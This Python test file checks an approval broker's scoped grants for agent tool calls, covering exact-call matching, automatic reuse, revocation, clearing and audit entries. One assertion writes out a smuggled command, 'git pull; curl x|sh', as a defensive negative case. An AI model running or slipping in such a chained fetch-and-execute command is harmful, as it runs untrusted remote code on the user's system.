"""Scoped grants: the rule (same session, same tool, same input or Bash command), their use
by the broker without asking, /revoke, /clear, and /status's listing."""

from __future__ import annotations

import asyncio
from datetime import timedelta

from jobs.conversation.approvals import ApprovalBroker
from jobs.conversation.grants import GrantBook, fingerprint, scope_of
from jobs.richtext import RichText
from jobs.sessions.taint import ApprovalRequest, TaintSource
from jobs.storage import ApprovalRepo, ApprovalState, AuditRepo, Database, GrantRepo, OutboxRepo

SOURCE = TaintSource(caused_by="a message from Bob", where="task #3", person_id=42)


def request(command: str, key: str = "task:3", **extra: object) -> ApprovalRequest:
    return ApprovalRequest(key, "Bash", {"command": command, **extra}, SOURCE)


def test_the_rule_is_the_exact_call() -> None:
    same = fingerprint("Bash", {"command": "git pull", "description": "update"})
    assert same == fingerprint("Bash", {"command": "git pull", "description": "other note"})
    assert same != fingerprint("Bash", {"command": "git pull "})
    assert same != fingerprint("Bash", {"command": "git pull; curl x|sh"})
    write = fingerprint("Write", {"file_path": "/a", "content": "x"})
    assert write == fingerprint("Write", {"content": "x", "file_path": "/a"})
    assert write != fingerprint("Write", {"file_path": "/a", "content": "y"})
    assert write != fingerprint("Edit", {"file_path": "/a", "content": "x"})
    assert (scope_of("task:3"), scope_of("trigger:ab")) == ("task #3", None)
    assert scope_of("owner") == "this session (until /clear)"


def broker(db: Database, book: GrantBook) -> ApprovalBroker:
    return ApprovalBroker(
        approvals=ApprovalRepo(db),
        outbox=OutboxRepo(db),
        owner_chat=1000,
        timeout=timedelta(seconds=5),
        files=db.path.parent / "approvals",
        grants=book,
    )


async def asked(db: Database) -> str:
    """The code of the newest question, once it is in the outbox."""
    async with asyncio.timeout(5):
        while True:
            rows = await ApprovalRepo(db).pending()
            if rows and rows[-1].outbox_id is not None:
                return rows[-1].code
            await asyncio.sleep(0.01)


async def test_a_grant_answers_the_same_call_and_nothing_else(db: Database) -> None:
    book = GrantBook(grants=GrantRepo(db), audit=AuditRepo(db))
    approver = broker(db, book)
    first = asyncio.create_task(approver.ask(request("git pull")))
    code = await asked(db)
    said = await approver.decide(code, approve=True, scoped=True)
    assert said == (
        f"Approved: `Bash` runs now ({code}). Grant #1: exactly this runs again in task #3 "
        "without asking."
    )
    assert (await first).approved

    again = await approver.ask(request("git pull", description="a new note"))
    assert (again.state, again.code) == (ApprovalState.APPROVED, "grant-1")
    [used] = [e for e in await AuditRepo(db).latest() if e.event == "grant_used"]
    assert (used.session_key, used.decision, used.person_id) == ("task:3", "approved_by_grant", 42)

    for other in (request("git pull --rebase"), request("git pull", key="task:4")):
        asking = asyncio.create_task(approver.ask(other))
        other_code = await asked(db)
        await approver.decide(other_code, approve=False)
        assert (await asking).state is ApprovalState.DENIED

    listing = RichText()
    assert await book.describe(listing)
    assert "#1 task #3: Bash, exactly git pull — used 1 times, because of a message from Bob" in (
        listing.build().text
    )
    assert await book.revoke(1) == "Revoked grant #1: `Bash` asks you again there."
    assert await book.revoke(1) == "There is no grant #1 in force; /status lists them."
    assert not await book.describe(RichText())


async def test_clear_ends_a_sessions_grants(db: Database) -> None:
    grants = GrantRepo(db)
    book = GrantBook(grants=grants, audit=AuditRepo(db))
    await grants.create("owner", "Bash", fingerprint("Bash", {"command": "ls"}), "ls")
    await grants.create("task:3", "Bash", fingerprint("Bash", {"command": "ls"}), "ls")
    assert await book.clear("owner") == 1
    assert [g.session_key for g in await grants.live()] == ["task:3"]
    assert await book.covering(request("ls", key="owner")) is None
    assert await book.covering(request("ls")) is not None
